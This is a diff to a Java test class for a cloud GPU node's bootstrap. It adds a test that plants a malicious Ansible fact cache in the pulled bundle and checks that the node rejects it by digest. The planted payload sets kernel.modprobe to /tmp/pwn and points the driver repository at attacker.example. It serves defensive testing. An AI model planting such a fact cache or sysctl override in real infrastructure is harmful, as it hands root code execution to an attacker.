@@ -132,6 +132,8 @@ class PullBootstrapTest {
 
       // Reported once: no per-boot copy left to run again.
       assertFalse(Files.exists(root.resolve("var/lib/cloud/scripts/per-boot/gpugen-pull.sh")));
+      // Facts were cached in memory only: the run left no fact cache in the bundle.
+      assertFalse(Files.exists(root.resolve("var/lib/gpugen/pull/bundle/.cache")), log);
       // A chroot shares the host's kernel: the run must not have touched it.
       assertEquals(hostMapCount, Files.readString(Path.of("/proc/sys/vm/max_map_count")));
     } finally {
@@ -260,6 +262,46 @@ class PullBootstrapTest {
           "no reboot for a refused bundle");
     } finally {
       TestRoot.delete(root);
+    }
+  }
+
+  /**
+   * A fact cache planted in the bundle (whoever can write the bundle prefix or push to the branch):
+   * Ansible reads .cache/facts/localhost (ansible.cfg's jsonfile cache) as the host's facts, which
+   * outrank group_vars, so its prerequisites_sysctl or driver repository would run as root. The
+   * digest covers every file, dotfiles included: the node runs nothing of it.
+   */
+  @Test
+  @Timeout(value = 5, unit = TimeUnit.MINUTES)
+  void aFactCachePlantedInTheBundleIsNeverRun() throws Exception {
+    RealTools.requireRoot();
+    RenderedCase rendered = RenderedCase.render("aws-pull", tmp.resolve("render"));
+    Path out = rendered.ansible().getParent();
+    Path root = RealTools.copyTestRoot(tmp.resolve("root"));
+    try {
+      String prefix =
+          json(out.resolve("terraform/terraform.tfvars.json")).get("pull_bundle_prefix").asText();
+      Path bundle = root.resolve("stub-s3/" + BUCKET + "/" + prefix);
+      upload(rendered.ansible(), bundle);
+      Path planted = Files.createDirectories(bundle.resolve(".cache/facts")).resolve("localhost");
+      Files.writeString(
+          planted,
+          "{\"prerequisites_sysctl\": {\"kernel.modprobe\": \"/tmp/pwn\"},"
+              + " \"nvidia_driver_repo_base_url\": \"http://attacker.example/cuda\"}\n");
+
+      RealTools.Result r = boot(root, out.resolve("terraform/user-data-h100.sh"));
+      String log = log(root);
+      assertNotEquals(0, r.exitCode(), r.output() + log);
+      assertTrue(log.contains("the bundle is not the one this node was launched with"), log);
+      List<String> calls = Files.readAllLines(root.resolve("stub-s3/calls.log"));
+      assertTrue(calls.stream().noneMatch(c -> c.startsWith("ansible-playbook")), calls::toString);
+      JsonNode report =
+          json(root.resolve("stub-s3/" + BUCKET + "/gpugen/fleet/reports/" + CALLER + ".json"));
+      assertEquals("failed", report.get("status").asText(), report::toString);
+      assertFalse(report.get("bundle_verified").asBoolean(), report::toString);
+      assertFalse(Files.exists(root.resolve("etc/sysctl.d/90-gpugen.conf")), "nothing configured");
+    } finally {
+      RealTools.deleteTestRoot(root);
     }
   }
 
